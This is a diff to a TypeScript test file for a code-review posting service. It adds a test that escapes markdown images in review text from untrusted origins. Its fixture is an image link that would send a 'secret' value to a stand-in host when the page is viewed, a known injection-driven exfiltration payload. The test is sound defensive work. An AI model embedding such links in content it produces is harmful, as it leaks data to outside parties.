@@ -1,4 +1,5 @@
 import type { Bus, Draft, Message } from '@trunkline/bus';
+import type { Principal } from '@trunkline/identity';
 import { describe, expect, it } from 'vitest';
 import type { CodehostClients } from './clients.ts';
 import { createPoster } from './posts.ts';
@@ -26,9 +27,10 @@ function place({ busFailures = 0 } = {}) {
   const clients = { of: async () => ({ rest }) } as unknown as CodehostClients;
   const send = createPoster(clients, { publish } as unknown as Bus);
   const done: string[] = [];
-  const attempt = (content: string) => {
+  const attempt = (content: string, principal?: Principal) => {
     const topic = 'message.outbound.codehost.acme.rail.7.review';
-    const message = { id: 'm', topic, correlationId: 'c', payload: { content } } as unknown as Message;
+    const given = { id: 'm', topic, correlationId: 'c', payload: { content }, principal };
+    const message = given as unknown as Message;
     const arrived = (reference: string) => void done.push(reference);
     return send({ message, signal: new AbortController().signal, done: [...done], arrived });
   };
@@ -43,6 +45,19 @@ describe('a review', () => {
     expect(reviews).toHaveLength(1);
     expect(told.map(({ payload }) => payload)).toMatchObject([
       { owner: 'acme', repo: 'rail', prNumber: 7, event: 'APPROVE', prUrl: 'review-1' },
+    ]);
+  });
+
+  it('shows no pictures after text from outside, which whoever opens the page would fetch', async () => {
+    const picture = '![chart](https://a.example/?d=secret)';
+    const asked: Principal = { kind: 'person', id: 'codehost:eve', via: [] };
+    const origins = [{ kind: 'message', source: 'codehost:eve' }];
+    const [clean, marked] = [place(), place()];
+    await clean.attempt(picture, asked);
+    await marked.attempt(picture, { ...asked, origins });
+    expect([clean, marked].map(({ reviews }) => reviews[0]?.body.split('\n')[0])).toEqual([
+      picture,
+      `\\${picture}`,
     ]);
   });
 
